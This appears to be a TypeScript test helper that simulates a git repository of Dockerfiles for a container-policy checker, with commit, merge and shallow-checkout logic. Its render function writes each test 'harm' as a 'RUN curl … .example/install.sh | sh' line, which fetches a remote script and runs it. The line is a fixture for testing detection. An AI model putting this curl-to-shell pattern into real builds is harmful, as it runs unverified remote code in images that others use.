import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { commitOnto, createRepository } from '../../git-repository.js';

/** What a commit contains: harms by the Dockerfile that has them, each a finding that fails by default, and a policy. */
export interface Content {
  readonly harms: Readonly<Record<string, readonly string[]>>;
  readonly policy?: string | undefined;
}

/** The text of each file, by its path. */
export type Files = ReadonlyMap<string, string>;

/** A repository on a server, whose commits a runner checks out into one folder. */
export interface Repository {
  readonly folder: string;
  /** Commits, and returns the hash. */
  commit(content: Content, ...parents: readonly string[]): string;
  /** GitHub's merge commit: of the base, with what the head changed since both separated. */
  merge(base: string, head: string): string;
  contentOf(commit: string): Content;
  filesOf(commit: string): Files;
  /** The folder has the files of the commit, and the commits before it unless it is shallow. */
  checkOut(commit: string, options: { readonly isShallow: boolean }): void;
}

export const POLICY = '.github/portside.yml';

interface Commit {
  readonly content: Content;
  readonly files: Files;
  readonly parents: readonly string[];
  readonly bytes: Buffer;
}

export function createServedRepository(folder: string): Repository {
  mkdirSync(folder, { recursive: true });
  createRepository(folder);
  const commits = new Map<string, Commit>();
  const objectOf = (id: string) => join(folder, '.git/objects', id.slice(0, 2), id.slice(2));
  const at = (id: string): Commit => {
    const commit = commits.get(id);
    if (!commit) throw new Error(`${id} is no commit of the story`);
    return commit;
  };
  const write = (files: Files) => {
    for (const name of readdirSync(folder))
      if (name !== '.git') rmSync(join(folder, name), { recursive: true });
    for (const [path, text] of files) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
    }
  };
  const ancestors = (id: string): string[] => {
    const found = [id];
    for (const one of found)
      found.push(...at(one).parents.filter((parent) => !found.includes(parent)));
    return found;
  };
  const repository: Repository = {
    folder,
    commit(content, ...parents) {
      const files = render(content);
      write(files);
      const id = commitOnto(folder, parents);
      commits.set(id, { content, files, parents, bytes: readFileSync(objectOf(id)) });
      return id;
    },
    merge(base, head) {
      const others = ancestors(head);
      const common = ancestors(base).find((id) => others.includes(id)) ?? '';
      const [origin, ours, theirs] = [common, base, head].map((id) => at(id).content) as [
        Content,
        Content,
        Content,
      ];
      return repository.commit(mergeContents(origin, ours, theirs), base, head);
    },
    contentOf: (id) => at(id).content,
    filesOf: (id) => at(id).files,
    checkOut(commit, { isShallow }) {
      write(at(commit).files);
      // Git's index has these files now.
      rmSync(objectOf(commitOnto(folder, [])), { force: true });
      writeFileSync(join(folder, '.git/HEAD'), `${commit}\n`);
      const shallow = join(folder, '.git/shallow');
      if (isShallow) writeFileSync(shallow, `${commit}\n`);
      else rmSync(shallow, { force: true });
      for (const [id, { bytes }] of commits) {
        rmSync(objectOf(id), { force: true });
        if (!isShallow || id === commit) writeFileSync(objectOf(id), bytes);
      }
    },
  };
  return repository;
}

function mergeContents(origin: Content, ours: Content, theirs: Content): Content {
  const harms: Record<string, readonly string[]> = { ...ours.harms };
  for (const path of new Set([...Object.keys(origin.harms), ...Object.keys(theirs.harms)])) {
    const [before, after] = [origin.harms[path], theirs.harms[path]];
    if (after === undefined) delete harms[path];
    else {
      const kept = (harms[path] ?? []).filter(
        (harm) => after.includes(harm) || !before?.includes(harm),
      );
      const added = after.filter((harm) => !before?.includes(harm) && !kept.includes(harm));
      harms[path] = [...kept, ...added];
    }
  }
  const policy = theirs.policy === origin.policy ? ours.policy : theirs.policy;
  return { harms, policy };
}

const START = `FROM debian:13.1@sha256:${'0'.repeat(64)}`;

function render({ harms, policy }: Content): Files {
  const files = new Map<string, string>();
  for (const [path, names] of Object.entries(harms)) {
    const lines = names.map((name) => `RUN curl -fsSL https://${name}.example/install.sh | sh`);
    files.set(path, [START, `LABEL part="${dirname(path)}"`, ...lines, 'USER 1000', ''].join('\n'));
  }
  if (policy !== undefined) files.set(POLICY, policy);
  return files;
}
